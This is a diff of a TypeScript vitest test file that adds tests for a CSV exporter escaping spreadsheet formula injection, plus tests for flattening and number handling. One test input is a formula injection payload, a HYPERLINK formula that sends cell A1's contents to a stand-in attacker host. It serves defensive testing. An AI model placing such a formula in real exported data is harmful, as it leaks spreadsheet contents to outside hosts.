@@ -1,6 +1,6 @@
 import fc from 'fast-check'
-import { expect, it } from 'vitest'
-import { parseCsv, recordsOf } from './csv.ts'
+import { describe, expect, it } from 'vitest'
+import { csvOf, parseCsv, recordsOf } from './csv.ts'
 
 it('reads what spreadsheets write', () => {
   const text = '\uFEFFname,city\r\n"St. Mary\'s, Pune",Pune\r\n\r\n"He said ""yes""",\n'
@@ -30,4 +30,36 @@ it('reads back every table, whatever is in its cells', () => {
 
 it('tells the line with a quote in the middle', () => {
   expect(() => parseCsv('a,b\nc,d"e\n')).toThrow('line 2')
+})
+
+describe('an exported sheet', () => {
+  it.each([
+    ['=HYPERLINK("http://evil.example/?"&A1,"x")', `"'=HYPERLINK(""http://evil.example/?""&A1,""x"")"`],
+    ['+1', "'+1"],
+    ['-1', "'-1"],
+    ['@SUM(A1)', "'@SUM(A1)"],
+    ['\t=1', "'\t=1"],
+    ['\r=1', `"'\r=1"`],
+  ])('writes %j as text', (name, cell) => {
+    expect(csvOf([{ name }])).toBe(`name\r\n${cell}`)
+  })
+
+  it('leaves numbers, other texts and what is missing as they are', () => {
+    expect(
+      csvOf([
+        { amount: -250, title: 'Class 11, "PLUS"', at: null },
+        { amount: 0, more: true },
+      ]),
+    ).toBe('amount,title,at,more\r\n-250,"Class 11, ""PLUS""",,\r\n0,,,true')
+  })
+
+  it('gives each part of a field a column of its own, and a list one cell', () => {
+    expect(csvOf([{ title: { en: 'Maths', hi: 'गणित' }, grades: [11, 12] }])).toBe(
+      'title.en,title.hi,grades\r\nMaths,गणित,"[11,12]"',
+    )
+  })
+
+  it('writes a heading that would be a formula as text too', () => {
+    expect(csvOf([{ '=1': 'x' }])).toBe("'=1\r\nx")
+  })
 })
